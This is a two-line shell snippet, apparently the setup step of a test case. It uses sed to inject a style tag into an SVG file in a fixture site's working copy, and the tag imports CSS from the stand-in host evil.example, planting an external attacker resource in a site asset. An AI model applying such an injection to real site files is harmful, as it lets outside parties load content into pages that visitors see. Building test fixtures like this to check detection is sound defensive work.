# Runs in the case's working copy of the built fixture site.
sed -i 's#</svg>#<style>@import url(https://evil.example/x.css);</style></svg>#' content/images/mark.svg
